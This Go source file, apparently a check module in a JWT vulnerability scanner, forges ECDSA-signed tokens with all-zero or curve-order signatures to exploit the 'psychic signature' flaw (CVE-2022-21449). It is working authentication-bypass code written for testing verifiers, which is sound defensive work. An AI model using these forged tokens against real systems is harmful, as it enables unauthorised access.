package attack

import (
	"crypto/ecdsa"
	"encoding/asn1"
	"math/big"
	"strings"
)

func psychicAttacks() []Attack {
	return []Attack{{
		Name:  "psychic-signature",
		Title: "An ECDSA signature of zeros",
		Check: "jwt.psychic-signature",
		Why:   "the verifier does not look whether r and s lie in their range, and zeros fit every key (CWE-347, CVE-2022-21449)",
		forge: psychic,
	}}
}

// psychic applies only where the genuine token or its keys are of ECDSA.
func psychic(g *genuine) []Forged {
	_, ec := g.PublicKey.(*ecdsa.PublicKey)
	if !ec && g.family() != "ES" && !strings.Contains(string(g.JWKS), `"EC"`) {
		return nil
	}
	var all []Forged
	for _, alg := range []string{"ES256", "ES384", "ES512"} {
		curve := curves[alg]
		text := segment(with(g.header, object{"alg": alg})) + "." + segment(g.altered()) + "."
		control := signed(alg, g.header, g.altered())
		zero, order := new(big.Int), curve.Params().N
		for _, v := range []struct {
			name, title string
			signature   []byte
		}{
			{"zeros", "r = s = 0", pair(curve, zero, zero)},
			{"zeros-der", "r = s = 0 in ASN.1", derPair(zero, zero)},
			{"order", "r = s = the curve's order", pair(curve, order, order)},
			{"order-der", "r = s = the curve's order in ASN.1", derPair(order, order)},
		} {
			all = append(all, Forged{
				Name: strings.ToLower(alg) + "-" + v.name, Title: alg + " with " + v.title,
				Token: text + encode(v.signature), Control: control,
			})
		}
	}
	return all
}

func derPair(r, s *big.Int) []byte {
	der, err := asn1.Marshal(struct{ R, S *big.Int }{r, s})
	if err != nil {
		panic("encode two numbers: " + err.Error())
	}
	return der
}
